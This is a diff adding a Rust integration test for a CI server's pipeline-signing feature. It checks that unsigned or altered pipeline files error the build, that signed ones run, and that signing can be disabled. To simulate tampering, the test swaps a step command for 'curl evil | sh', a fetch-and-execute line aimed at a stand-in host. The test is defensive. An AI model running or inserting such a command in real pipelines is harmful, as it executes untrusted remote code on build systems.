@@ -14,6 +14,7 @@ on_both!(
     a_push_builds_once_and_skip_ci_builds_nothing,
     tags_pull_requests_and_deletions_become_their_events,
     a_monorepo_builds_only_the_services_that_changed,
+    a_repository_with_a_signing_key_builds_only_signed_files,
 );
 
 /// Two services of one repository, each built only when its folder changed.
@@ -474,6 +475,97 @@ mod cases {
             message.contains("`path` cannot be decided") && message.contains("branch gone"),
             "{message}"
         );
+        server.stop().await;
+    }
+
+    /// `gantry sign` (as `drone sign`): once a file of the repository is signed, an unsigned
+    /// or altered file errors the build saying how to sign it; a signed one runs; a
+    /// Woodpecker file cannot be signed; `--disable` stops the check.
+    pub async fn a_repository_with_a_signing_key_builds_only_signed_files(db: &str) {
+        let server = TestServer::start(db).await;
+        let git = GitRepo::new();
+        let pipeline = "kind: pipeline\nname: ci\nclone: {disable: true}\nsteps:\n  - name: t\n    image: busybox\n    commands: [echo signed]\n";
+        let first = git.commit(&[(".gantry.yml", pipeline)], "unsigned");
+        server.add_repo("app", &git).await;
+        let push = |n: u64, sha: &str| {
+            let payload = webhook::push("acme/app", "main", sha, "a push");
+            let server = &server;
+            async move {
+                assert_eq!(
+                    server
+                        .deliver("push", &format!("sign-{n}"), &payload)
+                        .await
+                        .status(),
+                    202
+                );
+                server.wait_build("app", n).await
+            }
+        };
+        // No key yet: nothing is checked.
+        assert_eq!(push(1, &first).await["status"], "pending");
+
+        let woodpecker = server
+            .api(
+                reqwest::Method::POST,
+                "/repos/acme/app/sign",
+                Some(json!({"data": "steps:\n  t:\n    image: busybox\n"})),
+            )
+            .await;
+        assert_eq!(woodpecker.status(), 400);
+        let signed: gantry_api::Signed = server
+            .api(
+                reqwest::Method::POST,
+                "/repos/acme/app/sign",
+                Some(json!({ "data": pipeline })),
+            )
+            .await
+            .json()
+            .await
+            .expect("a signature");
+        assert_eq!(signed.hmac.len(), 64);
+        assert_eq!(
+            signed.document,
+            format!("kind: signature\nhmac: {}\n", signed.hmac)
+        );
+
+        // The same unsigned file now errors the build, saying how to sign it.
+        let unsigned = git.commit(&[("README", "x")], "unsigned again");
+        let build = push(2, &unsigned).await;
+        assert_eq!(build["status"], "error", "{build}");
+        let error = build["error"].as_str().unwrap_or_default();
+        assert!(
+            error.contains(".gantry.yml is not signed")
+                && error.contains("gantry sign acme/app .gantry.yml --save"),
+            "{error}"
+        );
+
+        let with = gantry_pipeline::signature::with_signature(pipeline, &signed.hmac);
+        let good = git.commit(&[(".gantry.yml", with.as_str())], "signed");
+        assert_eq!(push(3, &good).await["status"], "pending");
+
+        let altered = git.commit(
+            &[(
+                ".gantry.yml",
+                with.replace("echo signed", "curl evil | sh").as_str(),
+            )],
+            "altered",
+        );
+        let build = push(4, &altered).await;
+        assert_eq!(build["status"], "error", "{build}");
+        assert!(
+            build["error"]
+                .as_str()
+                .unwrap_or_default()
+                .contains("the signature of .gantry.yml does not match it"),
+            "{build}"
+        );
+
+        let disabled = server
+            .api(reqwest::Method::DELETE, "/repos/acme/app/sign", None)
+            .await;
+        assert_eq!(disabled.status(), 204);
+        let after = git.commit(&[(".gantry.yml", pipeline)], "unsigned after disable");
+        assert_eq!(push(5, &after).await["status"], "pending");
         server.stop().await;
     }
 }
